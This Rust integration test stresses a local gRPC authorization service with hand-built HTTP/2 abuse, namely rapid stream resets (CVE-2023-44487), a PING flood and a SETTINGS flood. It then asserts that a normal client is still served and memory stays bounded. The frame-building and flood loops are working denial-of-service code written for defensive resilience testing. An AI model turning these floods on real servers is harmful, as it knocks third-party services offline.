//! HTTP/2 abuse on the gRPC port, with frames written by hand over real TCP: rapid stream
//! resets (CVE-2023-44487), a PING flood and a SETTINGS flood, each from connections that never
//! read what the server answers. Meanwhile a well-behaved client keeps getting its Checks
//! answered, the process stays up, and its memory stays bounded.

use std::time::Duration;

use proto::ext_authz::authorization_client::AuthorizationClient;
use tests::{Portcullis, check_request, denied_status, reference_policy};
use tokio::io::AsyncWriteExt;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// One HTTP/2 frame (RFC 9113 section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap_or(0);
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&len.to_be_bytes()[1..]);
    f.push(kind);
    f.push(flags);
    f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const END_HEADERS: u8 = 0x4;

/// What one abusive connection sends: the preface, then `body` over and over until `until`.
async fn abuse(addr: std::net::SocketAddr, body: Vec<u8>, until: tokio::time::Instant) -> usize {
    let Ok(mut s) = tokio::net::TcpStream::connect(addr).await else { return 0 };
    let mut sent = 0;
    let mut hello = PREFACE.to_vec();
    hello.extend(frame(SETTINGS, 0, 0, &[]));
    if s.write_all(&hello).await.is_err() {
        return 0;
    }
    while tokio::time::Instant::now() < until {
        // a server that stops reading (or closes) ends the abuse of this connection
        match tokio::time::timeout(Duration::from_millis(500), s.write_all(&body)).await {
            Ok(Ok(())) => sent += 1,
            _ => break,
        }
    }
    sent
}

/// Rapid reset: HEADERS (`POST /`, from HPACK's static table) then RST_STREAM(CANCEL), 1,000
/// streams a batch, stream ids counting up from `first`.
fn rapid_reset_batch(first: u32) -> Vec<u8> {
    let mut b = Vec::new();
    for i in 0..1000u32 {
        let id = first + 2 * i;
        b.extend(frame(HEADERS, END_HEADERS, id, &[0x83, 0x86, 0x84]));
        b.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
    }
    b
}

fn rss_kib(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|s| {
            s.lines().find_map(|l| l.strip_prefix("VmRSS:").map(|v| v.trim().trim_end_matches(" kB").trim().to_owned()))
        })
        .and_then(|v| v.parse().ok())
        .unwrap_or(0)
}

#[tokio::test]
async fn resets_pings_and_settings_floods_do_not_starve_a_well_behaved_client() {
    let p = Portcullis::start(&reference_policy()).await.unwrap_or_else(|e| panic!("{e:#}"));
    let pid = p.pid().expect("pid");
    let mut good = AuthorizationClient::connect(format!("http://{}", p.grpc)).await.expect("connect");
    let ask = || check_request("10.0.0.1", "GET", "/health", &[]);
    assert_eq!(denied_status(&good.check(ask()).await.expect("answer").into_inner()), None);
    let rss_before = rss_kib(pid);

    let until = tokio::time::Instant::now() + Duration::from_secs(4);
    let mut abusers = Vec::new();
    let addr = p.grpc;
    for c in 0..3u32 {
        abusers.push(tokio::spawn(async move {
            let mut hello = PREFACE.to_vec();
            hello.extend(frame(SETTINGS, 0, 0, &[]));
            let Ok(mut s) = tokio::net::TcpStream::connect(addr).await else { return 0 };
            if s.write_all(&hello).await.is_err() {
                return 0;
            }
            let mut next = 1 + 2_000_000 * c;
            let mut sent = 0;
            while tokio::time::Instant::now() < until && next < 0x7fff_0000 {
                match tokio::time::timeout(Duration::from_millis(500), s.write_all(&rapid_reset_batch(next))).await {
                    Ok(Ok(())) => sent += 1,
                    _ => break,
                }
                next += 2000;
            }
            sent
        }));
    }
    let pings: Vec<u8> = (0..2000u64).flat_map(|i| frame(PING, 0, 0, &i.to_be_bytes())).collect();
    abusers.push(tokio::spawn(abuse(addr, pings, until)));
    let settings: Vec<u8> = (0..2000).flat_map(|_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])).collect();
    abusers.push(tokio::spawn(abuse(addr, settings, until)));

    // the well-behaved client, all along: every Check answered, none slow
    let mut slowest = Duration::ZERO;
    let mut answered = 0;
    while tokio::time::Instant::now() < until {
        let started = tokio::time::Instant::now();
        let r = tokio::time::timeout(Duration::from_secs(3), good.check(ask())).await;
        let r = r.expect("a Check went unanswered for 3 s under abuse").expect("answer");
        assert_eq!(denied_status(&r.into_inner()), None);
        slowest = slowest.max(started.elapsed());
        answered += 1;
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let mut batches = 0;
    for a in abusers {
        batches += a.await.expect("abuser");
    }
    assert!(batches > 0, "the abuse never got through to the server");
    assert!(answered >= 20, "only {answered} Checks answered in 4 s");
    assert!(slowest < Duration::from_secs(2), "a Check took {slowest:?}");
    // still up, still answering on a new connection, memory bounded
    let mut fresh = AuthorizationClient::connect(format!("http://{}", p.grpc)).await.expect("connect after abuse");
    assert_eq!(denied_status(&fresh.check(ask()).await.expect("answer").into_inner()), None);
    let grown = rss_kib(pid).saturating_sub(rss_before);
    eprintln!(
        "abuse: {batches} batches written (1,000 resets or 2,000 PING/SETTINGS frames each); {answered} Checks answered, the slowest in {slowest:?}; resident memory +{grown} KiB"
    );
    assert!(grown < 100 * 1024, "resident memory grew by {grown} KiB under abuse");
}
